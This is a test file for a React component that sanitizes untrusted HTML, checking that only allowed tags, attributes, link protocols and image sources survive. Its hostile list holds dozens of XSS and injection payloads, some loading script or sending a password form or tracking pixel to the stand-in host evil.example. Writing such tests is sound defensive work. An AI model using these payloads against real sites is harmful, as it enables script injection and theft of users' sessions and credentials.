import { render, screen } from '@testing-library/react'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { Html } from '#src/ui/html.tsx'

type Watched = { __xss?: unknown }

const show = (html: string): HTMLElement => render(<Html html={html} />).container.firstElementChild as HTMLElement

/** Each tries to set `__xss`, to send something away, or to change the page around it. */
const hostile: readonly string[] = [
  '<script>window.__xss = 1</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror="window.__xss = 1">',
  '<img src="/api/assets/a.png" onload=window.__xss=1 onerror=window.__xss=1>',
  '<img/src/onerror=window.__xss=1>',
  '<svg onload="window.__xss = 1"></svg>',
  '<svg><script>window.__xss = 1</script></svg>',
  '<svg><animate onbegin="window.__xss = 1" attributeName="x" dur="1s"></svg>',
  '<svg><a xlink:href="javascript:window.__xss=1"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg onload=window.__xss=1>"></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1></style></mglyph></table></mtext></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=window.__xss=1></annotation-xml></math>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
  '<template><img src=x onerror=window.__xss=1></template>',
  '<iframe src="javascript:parent.__xss=1"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<object data="javascript:window.__xss=1"></object><embed src="javascript:window.__xss=1">',
  '<a href="javascript:window.__xss=1">x</a>',
  '<a href="jAvAsCrIpT&colon;window.__xss=1">x</a>',
  '<a href=" &#1; java&#x09;script:window.__xss=1">x</a>',
  '<a href="vbscript:x">x</a><a href="data:text/html,<script>1</script>">y</a><a href="blob:https://x/1">z</a>',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:window.__xss=1">x</button></form>',
  '<base href="https://evil.example/"><p>x</p>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">x</p>',
  '<p onclick="window.__xss=1" onmouseover=window.__xss=1 onfocus=window.__xss=1 tabindex=0 autofocus>x</p>',
  '<details open ontoggle="window.__xss = 1"><summary>x</summary></details>',
  '<video><source onerror="window.__xss = 1"></video><audio src=x onerror=window.__xss=1></audio>',
  '<marquee onstart="window.__xss = 1">x</marquee><body onload="window.__xss = 1">',
  '<x-element onclick="window.__xss=1" is="y">x</x-element>',
  '<img name="getElementById" id="body" src="/api/assets/a.png"><form id="document"></form>',
  '<p id="root" class="skip" data-embedded role="alert" aria-hidden="true" slot="x">x</p>',
  '<img src="https://evil.example/pixel.png" alt="x"><img src="//evil.example/pixel.png"><img srcset="https://evil.example/x 1x">',
  '<img src="/api/assets/../session"><img src="/api/config"><img src="data:image/svg+xml,<svg/>"><img src="data:text/html,x">',
  '<!--[if gte IE 4]><script>window.__xss=1</script><![endif]--><![CDATA[<script>window.__xss=1</script>]]>',
  '<<img src=x onerror=window.__xss=1>script>window.__xss=1<</script/script>',
  `${'<div>'.repeat(600)}<img src=x onerror=window.__xss=1>${'</div>'.repeat(600)}`,
]

const allowedTags =
  'h2 h3 h4 p ul ol li dl dt dd strong em b i a br hr blockquote table thead tbody tr th td caption img span div section address small abbr'.split(
    ' ',
  )
const allowedAttributes = 'href alt src lang dir title colspan rowspan scope rel'.split(' ')

describe('HTML that is not ours', () => {
  beforeEach(() => {
    delete (window as Watched).__xss
  })
  afterEach(() => {
    delete (window as Watched).__xss
  })

  it.each(hostile)(
    'has nothing in it that runs, leads astray or reaches out of its place: %s [SHELL-30, S-13]',
    async (html) => {
      const shown = show(html)
      for (const element of shown.querySelectorAll('*')) {
        expect(allowedTags).toContain(element.localName)
        expect(element.namespaceURI).toBe('http://www.w3.org/1999/xhtml')
        for (const { name } of element.attributes) expect(allowedAttributes).toContain(name)
        const { protocol } = new URL(element.getAttribute('href') ?? '/', document.baseURI)
        expect(['http:', 'https:', 'mailto:', 'tel:']).toContain(protocol)
        const source = element.getAttribute('src')
        if (source !== null)
          expect(source).toMatch(/^(?:\/api\/assets\/[^.]|data:image\/(?:png|jpeg|gif|webp|avif);base64,)/)
        element.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))
        element.dispatchEvent(new Event('error'))
      }
      await new Promise((resolve) => setImmediate(resolve))
      expect((window as Watched).__xss).toBeUndefined()
    },
  )

  it('keeps its structure and its words [SHELL-30, S-13]', () => {
    const html =
      '<h3>Parking</h3><p lang="mk">Прва <strong>линија</strong><br>and <em>more</em></p><ul><li>One</li></ul>' +
      '<table><caption>Fees</caption><thead><tr><th scope="col" colspan="2">Exam</th></tr></thead>' +
      '<tbody><tr><td>MRI</td><td dir="ltr">$10</td></tr></tbody></table><abbr title="General practitioner">GP</abbr>'
    expect(show(html).innerHTML).toBe(html)
  })

  it('keeps the words of what it leaves out, but not those of scripts and styles [S-13]', () => {
    expect(show('<button>Call <u>us</u></button><script>x()</script><style>y{}</style>').textContent).toBe('Call us')
  })

  it.each([
    ['https://clinic.example.org/', 'noopener noreferrer'],
    ['mailto:a@example.org', null],
    ['/contact', null],
  ])('tells the site behind %s nothing of this page where the link leaves it [S-13]', (href, rel) => {
    show(`<a href="${href}" rel="opener" target="_top" ping="https://evil.example">Read more</a>`)
    const link = screen.getByRole('link', { name: 'Read more' })
    expect([link.getAttribute('href'), link.getAttribute('rel'), link.getAttribute('target')]).toEqual([
      href,
      rel,
      null,
    ])
  })

  it.each(['//clinic.example.org/', '#fees'])(
    'keeps the words of a link to %s, which leads nowhere known [S-13]',
    (href) => {
      show(`<a href="${href}">Read more</a>`)
      expect(screen.getByText('Read more')).toBeTruthy()
      expect(screen.queryByRole('link')).toBeNull()
    },
  )

  it('shows pictures of our own folder or of its own text, and gives one without words an empty alternative [S-13]', () => {
    const shown = show(
      '<img src="/api/assets/map.png" alt="Map"><img src="data:image/png;base64,AA=="><img alt="None">',
    )
    expect([...shown.querySelectorAll('img')].map((image) => image.getAttribute('alt'))).toEqual(['Map', ''])
  })

  it('is cleaned again when it changes [S-13]', () => {
    const { rerender, container } = render(<Html html="<p>One</p>" />)
    rerender(<Html html="<p onclick=x>Two</p>" />)
    expect(container.querySelector('p')?.outerHTML).toBe('<p>Two</p>')
  })
})
